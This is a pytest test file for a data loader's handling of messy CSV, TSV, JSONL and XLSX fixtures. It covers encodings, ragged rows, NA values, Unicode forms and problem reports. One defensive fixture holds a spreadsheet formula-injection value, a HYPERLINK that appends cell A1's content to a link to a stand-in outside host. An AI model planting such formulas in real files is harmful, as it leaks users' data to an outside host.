"""Every broken file ends as INDEX.md says: texts, mapping, problems with their lines, and the account of rows."""

from __future__ import annotations

import json
import math
from dataclasses import dataclass, field

import pytest

from jeval_core.data import AmbiguousMapping, MissingOutput, map_columns, read
from tests.data_io.files import MESSY, load, messy_files, references

REFUND = [
    "Refunds take five to seven business days.",
    "We open at nine, close at six, Monday to Friday.",
    "The branch manager signs it.",
]
REFUND_OK = [
    "Refunds are issued within 5-7 business days.",
    "Open 09:00-18:00 on weekdays.",
    "The branch manager must sign the form.",
]
ASKED = ["Summarise the refund rule.", "Give the opening hours.", "Who signs the form?"]
PLAIN = {"output": "output", "expected": "expected", "id": "id"}
WHOLE = {**PLAIN, "input": "input"}


@dataclass(frozen=True)
class Case:
    file: str
    id: list[str]
    output: list[str | None]
    expected: list[list[str]]
    lines: list[int]
    mapping: dict[str, str] = field(default_factory=lambda: PLAIN)
    problems: list[tuple[int, str]] = field(default_factory=list)
    rows_in_file: int | None = None
    source: dict[str, object] = field(default_factory=dict)
    input: list[str] | None = None
    gold: list[float] | None = None


def ones(*texts: str) -> list[list[str]]:
    return [[t] for t in texts]


def same(*texts: str) -> dict[str, list]:
    return {"output": [*texts], "expected": ones(*texts)}


NAN = math.nan
THREE = {
    "id": ["c1", "c2", "c3"],
    "output": REFUND,
    "expected": ones(*REFUND_OK),
    "lines": [2, 3, 4],
    "input": ASKED,
    "mapping": WHOLE,
}
CASES = [
    Case("01_bom_utf8.csv", **THREE, source={"encoding": "utf-8-sig", "delimiter": ",", "header_row": 1}),
    Case("03_utf16le_tab.csv", **THREE, source={"encoding": "utf-16", "delimiter": "\t"}),
    Case("04_cp1252.csv", ["k1", "k2"], **same("Le café coûte 3 € – “tarif plein”.", "Doña Áurea"), lines=[2, 3], mapping=WHOLE, problems=[(0, "not_utf8")], source={"encoding": "cp1252", "delimiter": ";"}),
    Case("05_semicolon_decimal_comma.csv", ["d1", "d2"], ["Die Antwort lautet ja.", "Nein; das gilt nicht."], ones("Die Antwort lautet ja.", "Nein, das gilt nicht."), [2, 3], mapping={**PLAIN, "gold.gold": "gold"}, gold=[0.75, 0.5], source={"delimiter": ";"}),
    Case("06_quoted_newlines.csv", ["q1", "q2"], ["- apple\n- pear\n", 'She said ""hi"".'], ones("- apple\n- pear", 'She said "hi".'), [2, 6], mapping=WHOLE, input=["List two fruits.", 'Write "hi".']),
    Case("07_ragged_rows.csv", ["r2", "r4"], **same("ok", "fine"), lines=[3, 5], problems=[(2, "too_few_cells"), (4, "too_many_cells")], rows_in_file=4),
    Case("09_blank_header.csv", ["a", "b"], ["yes it is", "no"], ones("yes it is", "yes"), [2, 3]),
    Case("10_na_text.csv", [f"n{i}" for i in range(1, 9)], ["NA", "None", "null", "nan", "N/A", "", "TRUE", "007"], [["NA"], ["None"], ["null"], ["NaN"], [], ["N/A"], ["TRUE"], ["007"]], [*range(2, 10)]),
    Case("11_references_json_in_cell.csv", ["m1", "m2", "m3", "m4"], ["The cat is on the mat.", "Bonjour le monde", "x", "plain ref text"], [["The cat sat on the mat.", "A cat is on the mat."], ["Bonjour le monde"], ["single quoted, python style", "second one"], ["plain ref text"]], [2, 3, 4, 5], mapping={**PLAIN, "expected": "references"}, problems=[(6, "broken_list")], rows_in_file=5),
    Case("13_nul_bytes.csv", ["z1", "z2"], **same("abcd", "fine"), lines=[2, 3], problems=[(2, "nul_byte")]),
    Case("14_cr_only.csv", **THREE),
    Case("17_header_only.csv", [], [], [], [], problems=[(1, "no_rows")]),
    Case("19_blank_rows.csv", ["a", "b"], **same("one", "two"), lines=[3, 6], problems=[(4, "blank_row")], rows_in_file=3),
    Case("21_huge_cell.csv", ["h1", "h2"], ["word " * 60_000, "small"], ones("word word", "small"), [2, 3]),
    Case("22_mixed_types.csv", [*"123456"], ["yes", "no", "maybe", "3", "3.0", "x"], ones("yes", "no", "maybe", "3", "3", "x"), [*range(2, 8)], mapping={**PLAIN, "gold.gold_level": "gold_level"}, problems=[(3, "not_a_number"), (4, "no_gold"), (6, "out_of_range"), (7, "out_of_range")], gold=[5, NAN, NAN, 4, NAN, NAN]),
    Case("24_tab.tsv", **THREE, source={"format": "tsv"}),
    Case("25_bad_lines.jsonl", [*"abdef"], ["one", "two", None, "5", "no newline at end"], [["one"], ["two", "deux"], ["x"], ["5"], ["no newline at end"]], [1, 3, 5, 6, 8], problems=[(4, "bad_json"), (5, "no_output"), (7, "not_an_object")], rows_in_file=7),
    Case("27_duplicate_ids.csv", [*"kkk"], **same("one", "two", "one"), lines=[2, 3, 4], problems=[(3, "duplicate_id"), (4, "duplicate_row")]),
    Case("28_formula_cells.csv", ["e1", "e2", "e3", "e4"], ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1 (555) 0100", "-3", "@SUM(1)"], ones("safe text", "+1 (555) 0100", "-3", "@SUM(1)"), [2, 3, 4, 5]),
    Case("29_unicode_forms.csv", [f"u{i}" for i in range(1, 9)], ["caf\u00e9", "\uff21\uff22\uff23 \uff11\uff12\uff13", "你好世界", "สวัสดี", "zero\u200bwidth", "👍🏽 ok", "non\u00a0breaking space", "नमस्ते"], ones("cafe\u0301", "ABC 123", "你好世界", "สวัสดี", "zerowidth", "👍🏽 ok", "non breaking space", "नमस्ते"), [*range(2, 10)]),
    Case("31_header_case_space.csv", ["a"], **same("one"), lines=[2], mapping={"output": " Output ", "expected": "EXPECTED", "id": "ID"}),
    Case("32_alias_columns.csv", ["dbb8d573be5bc7a9"], **same("hi"), lines=[2], mapping={"output": "prediction", "expected": "ground_truth", "input": "prompt", "gold.label": "label"}, gold=[1.0]),
    Case("34_trailing_commas.csv", ["a", "b"], **same("one", "two"), lines=[2, 3]),
    Case("36_workbook.xlsx", ["s1", "2", "s3", "s4", "s5", "s6"], ["one two", "3", "", "", "TRUE", "2024-03-01"], [["one two"], ["3"], ["x"], ["2"], ["TRUE"], ["2024-03-01"]], [*range(2, 8)], mapping={**PLAIN, "gold.gold": "gold"}, problems=[(4, "no_gold")], gold=[5, 4, NAN, 1, 2, 3], source={"sheet": "Cases", "alternatives": {"sheet": ("Notes",)}}),
]  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.file)
def test_file_ends_as_it_should(case: Case) -> None:
    table = read(MESSY / case.file)
    data = load(MESSY / case.file)
    assert dict(map_columns(table).describe()) == case.mapping
    assert map_columns(table).unmapped == ()
    assert {name: getattr(table.source, name) for name in case.source} == case.source
    assert data.id.to_pylist() == case.id
    if case.file.startswith("21"):
        assert len(data.output[0].as_py()) > 300_000
    else:
        assert data.output.to_pylist() == case.output
        assert references(data) == case.expected
    assert data.lines.tolist() == case.lines
    assert [(p.line, p.code) for p in data.problems] == case.problems
    if case.input:
        assert data.input is not None and data.input.to_pylist() == case.input
    if case.gold:
        assert next(iter(data.gold.values())).tolist() == pytest.approx(case.gold, nan_ok=True)
    total = case.rows_in_file if case.rows_in_file is not None else len(case.id)
    assert data.rows_in_file == total == len(data) + data.rejected + data.blank


def test_empty_file_says_so() -> None:
    table = read(MESSY / "16_empty.csv")
    assert [p.code for p in table.problems] == ["empty_file"] and len(table) == 0
    with pytest.raises(MissingOutput, match="The file is empty"):
        map_columns(table)


def test_repeated_output_is_asked_with_both_places() -> None:
    table = read(MESSY / "08_duplicate_headers.csv")
    assert [(p.line, p.code) for p in table.problems] == [(1, "duplicate_header")]
    assert "2 and 3" in table.problems[0].reason
    with pytest.raises(AmbiguousMapping, match="--map 'output=output #2' or --map 'output=output #3'") as e:
        map_columns(table)
    assert e.value.candidates == ("output #2", "output #3")
    assert load(MESSY / "08_duplicate_headers.csv", {"output": "output #3"}).output.to_pylist() == ["second text"]


def test_no_file_is_forgotten() -> None:
    named = {c.file for c in CASES} | {"16_empty.csv", "08_duplicate_headers.csv"}
    assert (
        named == {p.name for p in messy_files()} == {e["file"] for e in json.loads((MESSY / "INDEX.json").read_text())}
    )
    assert len(named) == 26


def test_every_problem_says_what_to_do() -> None:
    for case in CASES:
        for problem in load(MESSY / case.file).problems:
            assert problem.reason.endswith(".") and len(problem.reason) > 20, problem
